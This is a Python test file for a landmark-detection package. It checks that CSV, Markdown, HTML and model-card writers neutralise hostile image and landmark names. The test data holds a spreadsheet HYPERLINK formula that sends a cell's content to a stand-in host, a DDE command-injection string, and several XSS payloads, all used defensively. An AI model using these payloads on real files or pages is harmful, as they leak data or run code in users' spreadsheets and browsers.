"""No table of the package holds a cell that a spreadsheet would run, whatever images and landmarks are called."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

import landmark_diffusion
from landmark_diffusion.annotate.table import ImageCells, Key, MarksTable
from landmark_diffusion.data.labels import LabelledImage, LabelSet, Mark
from landmark_diffusion.data.labels.label_source import ImageFolder
from landmark_diffusion.data.sources.folder.labels_csv import CsvFormat
from landmark_diffusion.data.sources.isbi2015 import LANDMARK_NAMES
from landmark_diffusion.detection.writers.html_page import HtmlWriter
from landmark_diffusion.detection.writers.points_csv import write_points_csv
from landmark_diffusion.evaluation.annotator_view import annotator_view, write_annotators_csv
from landmark_diffusion.evaluation.report import write_report
from landmark_diffusion.evaluation.results import Results
from landmark_diffusion.evaluation.spread_view import Spreads, spread_view, write_spread_csv
from landmark_diffusion.export.card import model_card
from landmark_diffusion.metrics.evaluation import Evaluation, evaluate
from landmark_diffusion.metrics.predictions_file import read_predictions_csv, write_predictions_csv
from landmark_diffusion.metrics.records import Prediction
from landmark_diffusion.spread.statistics import expected_radial_error
from landmark_diffusion.studies.cephalometry.agreement import agreement
from landmark_diffusion.studies.cephalometry.analysis import analyse
from landmark_diffusion.studies.cephalometry.classes import SCHEMES
from landmark_diffusion.studies.cephalometry.tables import write_agreement, write_measures
from landmark_diffusion.studies.fewshot.summary import write_summary
from tests.detection.detections import make_detection
from tests.detection.tiny_model import facts
from tests.studies.cephalometry.faces import in_image, make_face
from tests.studies.fewshot.cells import cell

LINK = '=HYPERLINK("http://x.example/?"&A1,"open")'
NAMES = (LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
RUN = ("=", "+", "-", "@", "\t", "\r")
MARKUP = "<img src=x onerror=alert(1)>[a](javascript:alert(1))|<script>alert(2)</script>`"


def _predictions() -> list[Prediction]:
    """An image of each name, whose landmarks have the names too."""
    rng = np.random.default_rng(0)
    points = rng.uniform(10, 90, (len(NAMES), 2))
    covariance = np.broadcast_to(np.eye(2) * 4, (len(NAMES), 2, 2))
    truth = points + rng.normal(0, 2, (2, len(NAMES), 2))
    return [Prediction(name, i, points + i, truth + i, (0.1, 0.1), covariance) for i, name in enumerate(NAMES)]


def _evaluation() -> Evaluation:
    return evaluate({"main": _predictions()}, NAMES, NAMES[:2], (2.0,), "mm")


def _points(folder: Path) -> Path:
    plain = make_detection(pixels=False, count=len(NAMES))
    found = [replace(plain, name=name, path=name, landmark_names=NAMES) for name in NAMES]
    return write_points_csv(folder / "points.csv", found)


def _predicted(folder: Path) -> Path:
    write_predictions_csv(folder / "predictions.csv", _evaluation())
    return folder / "predictions.csv"


def _annotators(folder: Path) -> Path:
    view = annotator_view(_evaluation())
    assert view is not None
    return write_annotators_csv(folder / "annotators.csv", view)


def _spread(folder: Path) -> Path:
    covariance = np.stack([each.covariance for each in _predictions()])  # type: ignore[arg-type]
    view = spread_view(_evaluation(), Spreads(covariance, expected_radial_error(covariance), covariance, 0.9))
    assert view is not None
    return write_spread_csv(folder / "spread.csv", view)


def _measures(folder: Path) -> Path:
    found = {name: analyse(in_image(make_face()), LANDMARK_NAMES, (0.1, 0.1)) for name in NAMES}
    return next(path for path in write_measures(folder, found, {}) if path.suffix == ".csv")


def _agreement(folder: Path) -> Path:
    values = {name: np.array([sum(scheme.normal) / 2] * 3) for name, scheme in SCHEMES.items()}
    rows = agreement(("senior", values), ("model", values))
    return next(path for path in write_agreement(folder, rows, {}) if path.suffix == ".csv")


def _cells(folder: Path) -> Path:
    write_summary(folder, [cell(start=name, target=name) for name in NAMES], title=LINK, dataset=LINK)
    return folder / "cells.csv"


def _summary(folder: Path) -> Path:
    return _cells(folder).with_name("summary.csv")


def _annotated(folder: Path) -> Path:
    table = MarksTable.empty()
    for name in NAMES:
        table.put(Key(name, name, name), Mark(1, 2), {}, ImageCells((9, 9)))
    (folder / "annotations.csv").write_text(table.text(), encoding="utf-8")
    return folder / "annotations.csv"


def _converted(folder: Path) -> Path:
    names = NAMES[:4]  # no name of a label set has control characters
    images = tuple(
        LabelledImage(f"{number}.png", (9, 9), None, {(LINK, name): Mark(1, 2) for name in names})
        for number in range(2)
    )
    labels = LabelSet(names, (LINK,), images)
    (folder / "labels.csv").write_bytes(CsvFormat().files(labels, folder / "labels.csv", ImageFolder(folder))[""])
    return folder / "labels.csv"


WRITERS: dict[str, Callable[[Path], Path]] = {
    "points.csv": _points, "predictions.csv": _predicted, "annotators.csv": _annotators, "spread.csv": _spread,
    "measures.csv": _measures, "agreement.csv": _agreement, "cells.csv": _cells, "summary.csv": _summary,
    "annotations.csv": _annotated, "labels.csv": _converted,
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Glyph")
@pytest.mark.parametrize(
    "table",
    list(WRITERS),
)
def test_no_cell_is_run(table: str, tmp_path: Path) -> None:
    with WRITERS[table](tmp_path).open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    texts = [text for row in rows for text in row if not _is_number(text)]
    assert len(rows) > 1 and not [text for text in texts if text.startswith(RUN)]
    if table != "agreement.csv":  # its names are the package's own
        assert "'" + LINK in texts


def test_names_come_back_as_they_were(tmp_path: Path) -> None:
    found = read_predictions_csv(_predicted(tmp_path))
    assert found.image_ids == NAMES and found.landmark_names == NAMES


def test_every_writer_of_tables_is_tested_here() -> None:
    """A new one has to be added above; two others write numbers under headings of the package's own.

    The forms of other tools keep names as they are: their tools would not know escaped ones.
    """
    package = Path(landmark_diffusion.__file__).parent
    known = {
        "cli/compare_verb.py", "core/cells.py", "metrics/predictions_file.py", "detection/writers/points_csv.py",
        "evaluation/annotator_view.py", "studies/fewshot/summary.py", "evaluation/spread_view.py",
        "studies/cephalometry/tables.py", "evaluation/sample_writer.py", "training/curves.py",
        "annotate/table.py", "data/sources/folder/labels_csv.py", "data/labels/via.py", "data/labels/deeplabcut.py",
    }  # fmt: skip
    writes = re.compile(r"csv\.writer|csv\.DictWriter|text_cell\(|to_csv|CSVLogger")
    found = {str(each.relative_to(package)) for each in package.rglob("*.py") if writes.search(each.read_text())}
    assert found <= known, found - known


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---- markup ---------------------------------------------------------------------------------------------------------


def _unescaped(text: str) -> str:
    """A Markdown text without its escaped marks, so that what is left would be read as markup."""
    return re.sub(r"\\[\\`*_\[\]|<>]", "", text)


def test_markdown_of_a_report_takes_names_as_text(tmp_path: Path) -> None:
    found = [replace(each, image_id=f"{MARKUP}{each.index}") for each in _predictions()]
    names = tuple(f"{MARKUP}{i}" for i in range(len(NAMES)))
    image = np.zeros((120, 120), np.uint8)
    results = Results(evaluate({"main": found}, names, (MARKUP, "b"), (2.0,), "mm"))
    written = write_report(tmp_path, results, lambda _: image, overlays=2)
    text = _unescaped(written[0].read_text(encoding="utf-8"))
    assert "onerror" in text and "<img" not in text and "<script" not in text and "](javascript" not in text
    assert {path.parent for path in written} == {tmp_path}
    page = (tmp_path / "index.html").read_text("utf-8")
    assert "onerror=alert" in page and "<img src=x" not in page and "<script>alert" not in page


def test_markdown_of_a_few_shot_grid_takes_names_as_text(tmp_path: Path) -> None:
    cells = [cell(start=MARKUP, target=MARKUP)]
    written = write_summary(tmp_path, cells, title=MARKUP, dataset=MARKUP, facts={MARKUP: MARKUP})
    text = _unescaped(written[0].read_text(encoding="utf-8"))
    assert "onerror" in text and "<img" not in text and "<script" not in text and "](javascript" not in text


def test_card_takes_names_options_and_terms_as_text() -> None:
    """What a model file of a stranger says of itself is shown by `ldx export` of what was made from it."""
    hostile = replace(
        facts(), landmark_names=(MARKUP,) * 3, note=MARKUP, training={"dataset": MARKUP, "recipe": MARKUP},
        data={"dataset": MARKUP, "size": [8, 8], "split": MARKUP},
        model={"decoding": {"decoder": MARKUP}, MARKUP: {"x": MARKUP}, "num_landmarks": 3},
        precision=MARKUP, package_version=MARKUP, length_unit=MARKUP,
    )  # fmt: skip
    text = _unescaped(model_card(hostile, "x.ldx"))
    assert "onerror" in text and "<img" not in text and "<script" not in text and "](javascript" not in text


def test_page_takes_names_as_text(tmp_path: Path) -> None:
    writer = HtmlWriter(tmp_path)
    writer.add(
        replace(make_detection(count=3), name=MARKUP, path=MARKUP, landmark_names=(MARKUP,) * 3, notes=(MARKUP,))
    )
    text = writer.close()[0].read_text("utf-8")
    assert "onerror=alert" in text and "<img src=x" not in text and "<script>alert" not in text
